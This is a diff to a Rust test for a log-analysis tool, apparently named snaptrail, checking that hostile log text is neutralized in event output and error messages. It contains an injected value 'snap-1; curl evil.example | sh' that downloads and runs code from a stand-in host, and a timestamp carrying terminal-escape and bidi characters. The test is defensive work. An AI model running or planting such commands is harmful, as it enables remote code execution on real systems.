@@ -188,6 +188,32 @@ fn log_text_cannot_attack_any_output_format() {
             assert!(text.contains("'snap-1; curl evil.example | sh'"), "{text}");
         }
     }
+    // The normalized-event view is neutralized too.
+    let out = snaptrail().args(["events"]).arg(&log).output().unwrap();
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert!(text.contains("snap-1; curl"), "{text}");
+    assert!(
+        !text.contains('<') && !text.contains('\u{1b}') && !text.contains('\u{202e}'),
+        "{text}"
+    );
+    // Diagnostics on stderr quote log text: no raw control or bidi characters there either.
+    let bad = dir.path().join("bad.jsonl");
+    let hostile_time =
+        serde_json::json!({"eventName": "CreateSnapshot", "eventTime": "\u{202e}\u{1b}[2Jsoon"});
+    std::fs::write(&bad, format!("{hostile_time}\n")).unwrap();
+    let err = String::from_utf8(
+        snaptrail()
+            .args(["events"])
+            .arg(&bad)
+            .output()
+            .unwrap()
+            .stderr,
+    )
+    .unwrap();
+    assert!(
+        err.contains("unparseable time") && !err.contains('\u{1b}') && !err.contains('\u{202e}'),
+        "{err}"
+    );
     // Decoded JSON keeps the original value: neutralizing is an encoding, not a loss.
     let out = snaptrail()
         .args(["hunt", "--no-state", "--format", "jsonl"])
